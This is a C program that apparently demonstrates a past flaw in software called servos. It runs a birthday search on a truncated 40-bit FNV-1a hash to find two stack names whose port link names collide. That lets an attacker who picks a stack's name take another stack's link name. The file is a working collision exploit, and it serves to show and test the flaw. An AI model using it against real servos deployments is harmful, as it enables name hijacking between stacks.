/* Two stack names whose published-port link names, as servos derived
 * them before (sv_fnv1a of "<root>/stacks/<name>", its low 40 bits), are
 * the same: a birthday search, about a million names. An attacker who
 * chooses a stack's name (an environment repository does) gets a link
 * name another stack already has. Prints the two names.
 * usage: linkname_collide STATE-ROOT */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static uint64_t fnv1a(const char *s)
{
    uint64_t h = 1469598103934665603ull; /* servos's basis (util.c) */
    for (; *s; s++)
        h = (h ^ (unsigned char)*s) * 1099511628211ull;
    return h;
}

#define SLOTS (1u << 23)

/* A name from i whose every character varies: names that differ only
 * in a short suffix hardly ever meet under FNV, random-looking ones do
 * at the birthday bound (about 2^20 for 40 bits). */
static void name_of(uint32_t i, char out[16])
{
    uint64_t z = (uint64_t)i * 0x9e3779b97f4a7c15ull;
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    z ^= z >> 31;
    static const char al[] = "abcdefghijklmnopqrstuvwxyz0123456789";
    out[0] = 'p';
    for (int k = 1; k < 13; k++, z /= 36)
        out[k] = al[z % 36];
    out[13] = '\0';
}

int main(int argc, char **argv)
{
    if (argc != 2)
        return 2;
    uint64_t *keys = calloc(SLOTS, sizeof(*keys));
    uint32_t *vals = calloc(SLOTS, sizeof(*vals));
    if (!keys || !vals)
        return 1;
    char path[4096], name[16];
    for (uint32_t i = 1; i < SLOTS / 2; i++) {
        name_of(i, name);
        snprintf(path, sizeof(path), "%s/stacks/%s", argv[1], name);
        uint64_t h = (fnv1a(path) & 0xffffffffffull) | (1ull << 63); /* 0 = empty */
        for (uint32_t k = (uint32_t)(h * 0x9e3779b97f4a7c15ull >> 41) & (SLOTS - 1);;
             k = (k + 1) & (SLOTS - 1)) {
            if (keys[k] == 0) {
                keys[k] = h;
                vals[k] = i;
                break;
            }
            if (keys[k] == h) {
                char other[16];
                name_of(vals[k], other);
                printf("%s %s\n", other, name);
                return 0;
            }
        }
    }
    return 1;
}
